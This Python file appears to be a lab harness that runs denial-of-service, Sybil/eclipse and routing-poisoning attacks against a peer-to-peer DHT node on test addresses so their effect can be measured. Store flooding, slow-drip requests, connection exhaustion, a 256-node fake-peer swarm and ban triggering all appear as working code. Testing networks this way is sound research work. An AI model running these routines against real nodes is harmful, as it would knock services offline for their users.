"""drivers.py NAME: the attacks for which ../shared/reports/attack has no script, or one that ends too soon to be measured.
Each says `attack` when its quiet time is over, `during` once the attack is under way, `end` when it stops. figures.py runs
them beside an honest client."""
import os, random, select, sys, threading, time
sys.path.insert(0, os.environ['ATTACKS'])
from slow_node import *

V4, QUIET, LASTS = '10.0.0.1:6500', 3, 6
stop = [0]
def say(what): print(what, flush=True)
def go(*threads):
    for f in threads: threading.Thread(target=f, daemon=True).start()
def lasts(addr, *counters):
    say('during'); time.sleep(LASTS); say('end'); st = status(addr); stop[0] = 1
    say({k: st.get(k) for k in counters})
def network(n, addr=V4, at=lambda i: f'10.{100 + i}.0.1:6500', *flags):
    first = node(addr, *flags); rest = [node(at(i), '--bootstrap', addr, *flags) for i in range(1, n)]
    time.sleep(3); return [first] + rest
def drain(s):
    try:
        while s.recv(1 << 16): pass
    except OSError: pass

def a4():
    node(V4); time.sleep(QUIET); say('attack')
    s = connect(V4, '10.1.0.1'); s.settimeout(30)
    for _ in range(0, 104000, 500):
        s.sendall(b''.join(seal(PUT, put_body(os.urandom(32), b'', 10, 1)) for _ in range(500)))
        for _ in range(500): recv(s)
    def renew():     # what has ended is taken again: 10,000 a second
        while not stop[0]:
            s.sendall(b''.join(seal(PUT, put_body(os.urandom(32), b'', 10, 1)) for _ in range(200)))
            for _ in range(200): recv(s)
            time.sleep(0.01)
    go(renew); lasts(V4, 'store_entries', 'store_full')

def a5(coordinators=1):
    network(15, V4, lambda i: f'10.{100 + i}.0.1:6500', '--store-bytes', '4000000'); time.sleep(QUIET); say('attack')
    def launder(to):
        def run():
            s = connect(to, '10.1.0.1'); s.setblocking(False); n = 0
            while not stop[0]:
                for size in (8000, 3000, 0, 0):
                    b = seal(PUT, put_body(os.urandom(32), bytes(size), 10, 20))
                    while b and not stop[0]:
                        select.select([s], [s], [], 1)
                        try: drain(s); b = b[s.send(b):]
                        except BlockingIOError: pass
                        except OSError: return
                time.sleep(0.004)
        return run
    go(*(launder(V4 if i == 0 else f'10.{100 + i}.0.1:6500') for i in range(coordinators) for _ in range(4 if coordinators == 1 else 1)))
    time.sleep(8); lasts(V4, 'store_bytes', 'store_full', 'store_entries')

def a10(conflicts=True):
    network(4); evil = SlowNode('10.13.0.1:7000', 1.9); evil.join(V4); time.sleep(QUIET); say('attack')
    socks = []
    for _ in range(15):
        s = connect(V4, '10.1.0.1'); keys = [os.urandom(32) for _ in range(64)]
        s.sendall(b''.join(seal(GET, k) for k in keys))
        s.sendall(b''.join(seal(PUT, put_body(keys[-1] if conflicts else os.urandom(32), b'', 1, 1)) for _ in range(900)))
        s.setblocking(False); socks.append(s)
    b = seal(FIND_VALUE, bytes(32))
    def drip():
        at = 0
        while not stop[0]:
            for s in socks:
                try: s.send(b[at:at + 1])
                except OSError: pass
            at = (at + 1) % len(b)
            if at == 0: [drain(s) for s in socks]
    go(drip); time.sleep(0.5); lasts(V4, 'jobs', 'busy')

def a12():
    node(V4, '--max-connections', '150'); time.sleep(QUIET); say('attack'); keep = []
    for _ in range(128):
        s = connect(V4, '10.1.0.1'); s.sendall(seal(PING, b'abcd')); keep.append(s)
    lasts(V4, 'connections', 'too_many_connections', 'evicted')

class Liar:
    """256 nodes of one /56 in one thread: they know nobody, say that they store, and hold nothing."""
    def __init__(self, victim):
        ep = select.epoll(); self.socks = {}
        def add(s): s.setblocking(False); self.socks[s.fileno()] = [s, b'']; ep.register(s.fileno(), select.EPOLLIN)
        def bound(ip):
            s = socket.socket(socket.AF_INET6)
            for o in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): s.setsockopt(socket.SOL_SOCKET, o, 1)
            s.bind((ip, 7000)); return s
        listeners = set()
        for i in range(256):
            s = bound(f'2001:db8:0:{i:x}::1'); s.listen(64); listeners.add(s.fileno()); add(s)
        host, port = victim.rsplit(':', 1)
        def join():
            for i in range(256):
                s = bound(f'2001:db8:0:{i:x}::1'); s.connect((host.strip('[]'), int(port))); s.sendall(seal(FIND_NODE, os.urandom(32))); add(s); time.sleep(0.02)
        def run():
            while not stop[0]:
                for fd, _ in ep.poll(0.1):
                    s, b = self.socks[fd]
                    if fd in listeners: add(s.accept()[0]); continue
                    try: c = s.recv(1 << 16)
                    except OSError: c = b''
                    if not c: ep.unregister(fd); s.close(); del self.socks[fd]; continue
                    b += c; out = b''
                    while len(b) >= 2 and len(b) >= (n := struct.unpack_from('>H', b)[0]):
                        k, body, b = struct.unpack_from('>H', b, 2)[0], b[4:n - 32], b[n:]
                        out += seal(PONG, body) if k == PING else seal(NODE) if k in (FIND_NODE, FIND_VALUE) else seal(SUCCESS, body[4:36]) if k == PUT else b''
                    self.socks[fd][1] = b
                    try: s.send(out)
                    except OSError: pass
        go(run, join)

def a13():
    to = '[2001:db8:ffff::1]:6500'; network(20, to, lambda i: f'[2001:db8:a1{i:02}::1]:6500'); time.sleep(QUIET); say('attack')
    Liar(to); time.sleep(15); s = connect(to, '2001:db8:eeee::1'); mine, honest = set(), set()
    for _ in range(40):
        k, b = ask(s, FIND_NODE, os.urandom(32))
        for host, *_ in sealed.parse_nodes(b): (mine if host.startswith('2001:db8:0:') or host.startswith('2001:db8::') else honest).add(host)
    say(f"{len(mine)} of the attacker's 256 nodes (one /56) and {len(honest)} of 19 honest ones in the answers"); lasts(to, 'contacts')

def a14():
    network(15); time.sleep(QUIET); say('attack')
    dark = sorted((sealed.node_id(h, 6500), h) for h in (f'10.{224 + n % 32}.{n // 32 % 256}.{n // 8192 + 1}' for n in range(32000)))
    import bisect
    def near(key):
        at = bisect.bisect(dark, (key, '')); d = dark[max(0, at - 40):at + 40]
        d.sort(key=lambda e: int.from_bytes(e[0], 'big') ^ int.from_bytes(key, 'big')); return b''.join(sealed.entry(h, 6500) for _, h in d[:20])
    class Guide(SlowNode):
        def serve(self, s):
            s.settimeout(None)
            try:
                while True:
                    k, b = recv(s)
                    s.sendall(seal(PONG, b) if k == PING else seal(NODE, near(b)) if k in (FIND_NODE, FIND_VALUE) else seal(SUCCESS, b[4:36]))
            except (OSError, ConnectionError): pass
    Guide('10.13.0.1:7000').join(V4)
    def gets():
        s = connect(V4, '10.1.0.1'); s.settimeout(30); s.sendall(b''.join(seal(GET, os.urandom(32)) for _ in range(32)))
        while not stop[0]: recv(s); s.sendall(seal(GET, os.urandom(32)))
    go(gets); time.sleep(3); lasts(V4, 'node_connections', 'busy', 'jobs')

def a15():
    node(V4); time.sleep(QUIET); say('attack'); bad = bytearray(seal(PING, b'abcd')); bad[-1] ^= 1
    for _ in range(3):
        s = connect(V4, '10.1.0.1'); s.sendall(bytes(bad) * 3); drain(s)
    lasts(V4, 'banned', 'struck_out')

def a16():
    node(V4, '--api', '127.0.0.1:7001'); time.sleep(QUIET); say('attack'); keep = []
    for _ in range(16300):
        try: keep.append(socket.create_connection(('127.0.0.1', 7001), 1))
        except OSError: pass
    lasts(V4, 'connections', 'too_many_connections', 'evicted')

{'a4': a4, 'a5': a5, 'a5all': lambda: a5(5), 'a10': a10, 'a10control': lambda: a10(False), 'a12': a12, 'a13': a13, 'a14': a14,
 'a15': a15, 'a16': a16}[sys.argv[1]]()
stop_all(); os._exit(0)
